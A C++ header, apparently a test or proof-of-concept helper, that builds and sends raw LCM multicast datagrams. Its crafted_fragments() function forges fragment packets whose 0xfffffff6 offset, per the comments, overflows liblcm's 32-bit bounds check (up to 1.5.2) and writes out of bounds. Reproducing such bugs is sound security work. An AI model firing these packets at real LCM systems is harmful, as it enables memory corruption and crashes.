#pragma once

#include <sys/socket.h>
#include <unistd.h>

#include <cstdint>
#include <string>
#include <vector>

#include "lcmtypes/udpm_socket.h"

namespace nextview {

/// Sends bytes of any kind to where an LCM URL meets, as anybody can.
class RawSender {
 public:
  explicit RawSender(const std::string& lcm_url) : to_(parse_udpm_url(lcm_url).socket_address()) {
    const std::uint8_t stay_on_this_host = 0;
    setsockopt(fd_, IPPROTO_IP, IP_MULTICAST_TTL, &stay_on_this_host, 1);
  }
  RawSender(const RawSender&) = delete;
  RawSender& operator=(const RawSender&) = delete;
  ~RawSender() { close(fd_); }

  bool send(const std::vector<std::uint8_t>& bytes) const {
    return sendto(fd_, bytes.data(), bytes.size(), 0, reinterpret_cast<const sockaddr*>(&to_),
                  sizeof to_) == static_cast<ssize_t>(bytes.size());
  }

 private:
  int fd_ = socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0);
  sockaddr_in to_;
};

inline void put_number(std::vector<std::uint8_t>& bytes, std::uint64_t value, int size) {
  for (int shift = 8 * (size - 1); shift >= 0; shift -= 8) {
    bytes.push_back(static_cast<std::uint8_t>(value >> shift & 0xff));
  }
}

/// A whole message in a datagram.
inline std::vector<std::uint8_t> lcm_datagram(const std::string& channel,
                                              const std::vector<std::uint8_t>& message) {
  std::vector<std::uint8_t> bytes;
  put_number(bytes, 0x4c433032, 4);
  put_number(bytes, 0, 4);
  bytes.insert(bytes.end(), channel.begin(), channel.end());
  bytes.push_back(0);
  bytes.insert(bytes.end(), message.begin(), message.end());
  return bytes;
}

/// Of a message of 1 MB that is said to come in two fragments: the second, and the first. After the
/// bounds check of liblcm up to 1.5.2, which adds in 32 bits, the latter is written far outside.
inline std::vector<std::vector<std::uint8_t>> crafted_fragments() {
  std::vector<std::vector<std::uint8_t>> both;
  for (const auto& [offset, number] : {std::pair<std::uint32_t, int>{0, 1}, {0xfffffff6, 2}}) {
    std::vector<std::uint8_t>& bytes = both.emplace_back();
    put_number(bytes, 0x4c433033, 4);
    put_number(bytes, 77, 4);       // sequence number
    put_number(bytes, 1 << 20, 4);  // size of the whole message
    put_number(bytes, offset, 4);
    put_number(bytes, static_cast<std::uint64_t>(number), 2);
    put_number(bytes, 3, 2);  // fragments
    bytes.insert(bytes.end(), 500, 0x41);
  }
  return both;
}

}  // namespace nextview
